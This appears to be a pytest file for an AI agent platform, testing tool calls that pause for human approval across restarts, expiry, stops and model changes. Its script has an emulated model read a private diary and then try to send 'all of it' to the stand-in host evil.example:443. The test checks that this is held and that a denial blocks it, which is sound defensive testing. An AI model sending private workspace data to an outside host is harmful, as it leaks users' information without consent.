"""A turn that waits for a person: no task, no lease, through restarts, until it is decided."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from agentweb.emulator import server
from agentweb.emulator.script import Script, after, call, say, when
from agentweb.emulator.server import EmulatorServer
from conversations.conf import conf
from conversations.db import run_db
from conversations.models import (
    ApiCall,
    Approval,
    BudgetWindow,
    Conversation,
    Decision,
    ToolCall,
    Turn,
    User,
)
from conversations.runtime.supervisor import Supervisor
from conversations.toolbox import approvals
from conversations.toolbox.tool_access import switch_tools
from conversations.turns import turns
from tests.faults.oracle import check_rows
from tests.support import people_and_turns, toy_tools
from tests.support.running_turns import (
    answer_text,
    ended,
    is_valid,
    queue,
    supervising,
    unrecorded,
    until,
)

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.asyncio]
SCRIPT = Script([
    when("please fire", call("peek", at="a"), call("fire", at="b"), call("put", at="c")),
    when("read and tell", call("read_diary")),
    after("read_diary", call("visit", host="evil.example:443", said="all of it")),
    after("visit", say("It says: {result}")),
    after("put", say("It says: {result}")),
    when("", say("Yes.")),
])  # fmt: skip


@pytest.fixture(scope="module")
def emulator() -> Iterator[EmulatorServer]:
    with server.start(pace=0, record=True, script=SCRIPT) as running:
        yield running


@pytest.fixture
def ran(emulator: EmulatorServer, settings: Any, monkeypatch: Any, tmp_path: Path) -> Path:
    emulator.emulator.reset()
    settings.ANTHROPIC_BASE_URL = emulator.url
    toy_tools.install(monkeypatch, tmp_path / "ran")
    return tmp_path / "ran"


async def waiting(supervisor: Supervisor, text: str) -> Turn:
    """Run a turn until it waits for a person and nobody runs it."""
    turn = await queue(text)
    await run_db(lambda: people_and_turns.limited(User.objects.latest("pk"), 50_000_000))
    supervisor.wake(turn.pk)
    await until(Turn.objects.filter(pk=turn.pk, state="approval_wait").exists)
    await until(lambda: not supervisor._tasks)
    return turn


def decide(verdict: str) -> Turn:
    question = Approval.objects.select_related("conversation").get(decision=None)
    return approvals.decide_approval(
        conversation=question.conversation,
        approval_id=question.pk,
        digest=question.arguments_digest,
        verdict=verdict,
        actor_id=question.conversation.owner_id,
    )


async def accounted(emulator: EmulatorServer, turn: Turn) -> None:
    await run_db(check_rows)
    await run_db(is_valid, turn.conversation)
    assert await run_db(unrecorded, emulator) == []


@pytest.mark.parametrize(
    ("verdict", "state"), [("once", "ok"), ("chat", "ok"), ("denied", "denied")]
)
async def test_a_turn_waits_without_a_worker_and_goes_on_when_it_is_decided(
    verdict: str, state: str, emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        # What needs nobody has run before; nothing is held meanwhile.
        assert sorted(name for name, _ in toy_tools.ran(ran)) == ["peek", "put"]
        assert await run_db(lambda: BudgetWindow.objects.get().held) == 0
        supervisor.wake((await run_db(decide, verdict)).pk)
        row = await ended(turn)
    assert (row.state, row.finish_reason, row.takeovers) == ("done", "end_turn", 0)
    call = await run_db(ToolCall.objects.get, name="fire")
    assert call.state == state
    assert [name for name, _ in toy_tools.ran(ran)].count("fire") == (state == "ok")
    assert len(emulator.emulator.log) == 2
    await accounted(emulator, row)


async def test_what_waits_goes_on_with_the_tools_and_the_model_of_then(
    emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        chat, other = turn.conversation, "claude-haiku-5-5"
        await run_db(switch_tools, conversation_id=chat.pk, on=[], off=["peek"])
        await run_db(Conversation.objects.filter(pk=chat.pk).update, model=other)
        supervisor.wake((await run_db(decide, "once")).pk)
        await ended(turn)
    first, second = (json.loads(each.body) for each in emulator.emulator.log)
    names = [{each["name"] for each in body["tools"]} for body in (first, second)]
    assert names[0] - names[1] == {"peek"}
    assert (first["model"] != other, second["model"]) == (True, other)
    page = await run_db(open_tools, chat)
    assert "nor for messages and answers that wait" in " ".join(page.split())


def open_tools(conversation: Conversation) -> str:
    client = Client()
    client.force_login(conversation.owner)
    page: str = client.get(reverse("tools", args=[conversation.public_id])).content.decode()
    return page


async def test_a_decision_that_comes_before_the_task_is_over_starts_the_turn_at_once(
    emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await queue("please fire")
        supervisor.wake(turn.pk)
        await until(Turn.objects.filter(pk=turn.pk, state="approval_wait").exists)
        await run_db(lambda: decide("once"))
        # As the view does, while the task that asked tells the pages; no sweep is waited for.
        supervisor.launch(turn.pk)
        assert (await ended(turn)).state == "done"


async def test_a_turn_waits_through_restarts(emulator: EmulatorServer, ran: Path) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
    async with supervising(is_alone=True) as supervisor:
        await supervisor.sweep(everything=True)
        assert (await run_db(Turn.objects.get)).state == "approval_wait"
    # Decided while no server runs: the next one finds it.
    await run_db(decide, "once")
    async with supervising(is_alone=True):
        row = await ended(turn)
    assert row.state == "done"
    assert sorted(name for name, _ in toy_tools.ran(ran)) == ["fire", "peek", "put"]
    await accounted(emulator, row)


async def test_telling_others_after_a_private_reading_waits_and_denied_tells_nobody(
    emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "read and tell")
        question = await run_db(Approval.objects.get)
        assert (question.reason, question.destination) == ("private", "evil.example:443")
        assert question.sources == "workspace:"
        supervisor.wake((await run_db(decide, "denied")).pk)
        row = await ended(turn)
    assert [name for name, _ in toy_tools.ran(ran)] == ["read_diary"]
    assert "did not allow" in await run_db(answer_text, row)
    await accounted(emulator, row)


async def test_a_question_that_nobody_answers_is_closed_by_the_sweep(
    emulator: EmulatorServer, ran: Path, settings: Any
) -> None:
    settings.AGENTWEB_APPROVAL_HOURS = 0
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        assert conf.approval_hours == 0
        await supervisor.sweep()
        row = await ended(turn)
    assert row.state == "done"
    decision = await run_db(Decision.objects.get)
    assert (decision.verdict, decision.actor_id) == ("expired", None)
    assert sorted(name for name, _ in toy_tools.ran(ran)) == ["peek", "put"]
    await accounted(emulator, row)


async def test_a_stop_ends_a_turn_that_waits(emulator: EmulatorServer, ran: Path) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        await run_db(turns.request_stop, turn=turn)
        supervisor.stop(turn.pk)
        row = await ended(turn)
    assert (row.state, row.finish_reason) == ("cancelled", "stopped")
    await accounted(emulator, row)


async def test_the_time_of_waiting_does_not_count(
    emulator: EmulatorServer, ran: Path, settings: Any
) -> None:
    settings.AGENTWEB_MAX_TURN_SECONDS = 60
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        await run_db(Turn.objects.update, started_at=timezone.now() - timedelta(days=1))
        supervisor.wake((await run_db(decide, "once")).pk)
        assert (await ended(turn)).state == "done"


async def test_what_is_set_while_a_turn_waits_holds_from_its_next_request_on(
    emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        behind = await queue("And then?", turn.conversation)
        other = "claude-haiku-4-5"
        await run_db(
            lambda: Conversation.objects.update(model=other, instructions="Answer in verse.")
        )
        supervisor.wake((await run_db(decide, "denied")).pk)
        assert (await ended(turn)).state == "done"
        await until(Turn.objects.filter(client_id=behind.client_id, state="done").exists)
    calls = await run_db(lambda: list(ApiCall.objects.order_by("pk").select_related("envelope")))
    assert [call.model == other for call in calls] == [False, True, True]
    assert ["in verse" in call.envelope.text for call in calls] == [False, True, True]


async def test_somebody_shut_out_meanwhile_gets_nothing_done(
    emulator: EmulatorServer, ran: Path
) -> None:
    async with supervising() as supervisor:
        turn = await waiting(supervisor, "please fire")
        await run_db(decide, "once")
        await run_db(User.objects.update, is_active=False)
        supervisor.wake(turn.pk)
        row = await ended(turn)
    assert (row.state, row.error_code) == ("failed", "inactive")
    assert sorted(name for name, _ in toy_tools.ran(ran)) == ["peek", "put"]
    await accounted(emulator, row)
